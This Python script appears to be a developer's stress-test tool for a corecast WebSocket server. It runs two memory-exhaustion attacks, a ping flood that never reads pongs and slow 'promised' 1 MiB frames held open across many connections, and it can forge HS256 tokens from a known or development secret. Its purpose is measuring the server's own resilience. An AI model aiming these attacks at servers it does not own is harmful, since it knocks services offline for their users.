#!/usr/bin/env python3
"""Abuse a running corecast node the way an attacker would and report its RSS.

    scripts/abuse.py ping-flood --url ws://127.0.0.1:8080/ws --pid PID [--token T] [--seconds 10]
    scripts/abuse.py promise    --url ws://127.0.0.1:8080/ws --pid PID [--seconds 10] [--rate 90] [--secret S]

ping-flood: one connection sends 125-byte pings as fast as it can and never
reads the pongs (its receive buffer is made small).
promise: upgrades (at --rate per second, under the default per-address
handshake rate), each sending a frame header that announces a 1 MiB payload,
then a few bytes of it each second, and holding the socket. With --secret
(the node's HS256 secret, or `dev` for a node in development mode) each
connection authenticates first, as a user of its own.

Prints the server's RSS every second (from /proc/PID/status), then one JSON
line: the RSS before, the peak, and what the attack sent.
"""

import argparse
import base64
import hashlib
import hmac
import json
import os
import socket
import struct
import sys
import time
from urllib.parse import urlparse


def rss_kib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


def upgrade(url, token=None, rcvbuf=None):
    u = urlparse(url)
    s = socket.socket()
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.connect((u.hostname, u.port or 80))
    path = u.path or "/"
    if token:
        path += f"?token={token}"
    key = base64.b64encode(os.urandom(16)).decode()
    s.sendall(
        (
            f"GET {path} HTTP/1.1\r\nHost: {u.hostname}\r\nUpgrade: websocket\r\n"
            f"Connection: Upgrade\r\nSec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n"
        ).encode()
    )
    head = b""
    while b"\r\n\r\n" not in head:
        chunk = s.recv(1)
        if not chunk:
            raise ConnectionError("closed during the handshake")
        head += chunk
    status = head.split(b" ", 2)[1]
    if status != b"101":
        raise ConnectionError(head.decode(errors="replace").splitlines()[0])
    return s


DEV_SECRET = "corecast-development-secret-do-not-use-in-production"


def hs256_token(secret, user, ttl=600):
    b64 = lambda b: base64.urlsafe_b64encode(b).rstrip(b"=")
    head = b64(json.dumps({"alg": "HS256", "typ": "JWT"}).encode())
    body = b64(json.dumps({"sub": user, "exp": int(time.time()) + ttl, "channels": ["*"]}).encode())
    sig = b64(hmac.new(secret.encode(), head + b"." + body, hashlib.sha256).digest())
    return (head + b"." + body + b"." + sig).decode()


def masked(opcode, payload, length=None):
    n = len(payload) if length is None else length
    head = bytes([0x80 | opcode])
    if n < 126:
        head += bytes([0x80 | n])
    elif n < 65536:
        head += bytes([0x80 | 126]) + struct.pack(">H", n)
    else:
        head += bytes([0x80 | 127]) + struct.pack(">Q", n)
    mask = os.urandom(4)
    body = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
    return head + mask + body


def ping_flood(args):
    s = upgrade(args.url, args.token, rcvbuf=4096)
    s.setblocking(False)
    batch = masked(0x9, b"p" * 125) * 64
    pending = b""
    sent = 0
    before = rss_kib(args.pid)
    peak = before
    start = time.time()
    next_report = start + 1
    closed = None
    while time.time() - start < args.seconds:
        try:
            if not pending:
                pending = batch
            n = s.send(pending)
            pending = pending[n:]
            sent += n
        except BlockingIOError:
            time.sleep(0.0005)
        except OSError as e:
            closed = str(e)
            break
        if time.time() >= next_report:
            r = rss_kib(args.pid)
            peak = max(peak, r)
            print(f"{time.time() - start:5.1f} s  rss {r / 1024:8.1f} MiB  sent {sent / 2**20:8.1f} MiB", file=sys.stderr)
            next_report += 1
    peak = max(peak, rss_kib(args.pid))
    time.sleep(1)
    after = rss_kib(args.pid)
    s.close()
    return {"attack": "ping-flood", "token": bool(args.token), "sent_bytes": sent,
            "rss_before_kib": before, "rss_peak_kib": peak, "rss_after_kib": after,
            "closed_by_server": closed}


def promise(args):
    header = masked(0x2, b"", length=1 << 20)  # header and mask, no payload yet
    held = []
    sent = 0
    refused = 0
    before = rss_kib(args.pid)
    peak = before
    start = time.time()
    next_report = start + 1
    interval = 1.0 / args.rate
    next_conn = start
    while time.time() - start < args.seconds:
        now = time.time()
        if now >= next_conn:
            next_conn += interval
            try:
                token = None
                if args.secret:
                    secret = DEV_SECRET if args.secret == "dev" else args.secret
                    token = hs256_token(secret, f"abuse-{len(held)}")
                s = upgrade(args.url, token)
                frame = header + os.urandom(16)
                s.sendall(frame)
                sent += len(frame) + 200
                held.append(s)
            except (ConnectionError, OSError):
                refused += 1
        if now >= next_report:
            # A few more bytes of each announced payload, every second.
            for s in held:
                try:
                    s.send(os.urandom(4))
                    sent += 4
                except OSError:
                    pass
            r = rss_kib(args.pid)
            peak = max(peak, r)
            print(f"{now - start:5.1f} s  rss {r / 1024:8.1f} MiB  held {len(held)}  refused {refused}", file=sys.stderr)
            next_report += 1
        time.sleep(max(0.0, min(next_conn, next_report) - time.time()))
    peak = max(peak, rss_kib(args.pid))
    for s in held:
        s.close()
    time.sleep(1)
    after = rss_kib(args.pid)
    return {"attack": "promise", "authenticated": bool(args.secret), "connections": len(held), "refused": refused,
            "sent_bytes": sent, "rss_before_kib": before, "rss_peak_kib": peak,
            "rss_after_kib": after}


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("attack", choices=["ping-flood", "promise"])
    p.add_argument("--url", required=True)
    p.add_argument("--pid", type=int, required=True)
    p.add_argument("--token")
    p.add_argument("--seconds", type=float, default=10)
    p.add_argument("--rate", type=float, default=90, help="upgrades per second (promise)")
    p.add_argument("--secret", help="HS256 secret for one token per connection (promise); `dev` for development mode")
    args = p.parse_args()
    result = ping_flood(args) if args.attack == "ping-flood" else promise(args)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
